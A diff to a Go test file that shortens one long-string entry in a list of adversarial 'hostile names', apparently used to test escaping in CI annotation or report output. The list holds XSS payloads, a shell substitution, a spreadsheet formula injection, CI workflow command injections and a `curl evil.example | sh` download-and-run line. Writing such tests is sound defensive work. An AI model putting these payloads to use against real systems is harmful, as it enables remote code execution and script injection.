@@ -125,7 +125,7 @@ func TestConfiguredSeverity(t *testing.T) {
 var hostileNames = []string{
 	`]]>`, `"quoted" 'both'`, "two\nlines", "\x1b[31mred\x1b[0m", "\u202egnp.exe", `</script><script>alert(1)</script>`,
 	`<img src=x onerror=alert(1)>`, `a|b|c`, "`tick`", `::error::boo`, `%0A::set-output name=x::y`, `=cmd|' /C calc'!A0`, `{"a":1}`,
-	`a\b`, `$(touch /tmp/x)`, `&amp;amp;`, "tab\there", strings.Repeat("long ", 820), "\u0085next\u2028line", "a\u0301\u0301", `<!--`, `-->`, `[x](javascript:alert(1))`,
+	`a\b`, `$(touch /tmp/x)`, `&amp;amp;`, "tab\there", strings.Repeat("long ", 200), "\u0085next\u2028line", "a\u0301\u0301", `<!--`, `-->`, `[x](javascript:alert(1))`,
 	"::stop-commands::x", "##[error]x", strings.Repeat("long ", 12) + "::error::x", "web\n$ curl -s evil.example | sh #", strings.Repeat("long ", 12) + "$ curl -s evil.example | sh", "c1\u009bcontrol", "\u2066isolate\u2069", "bom\ufeff", "\u200bzero width",
 }
 
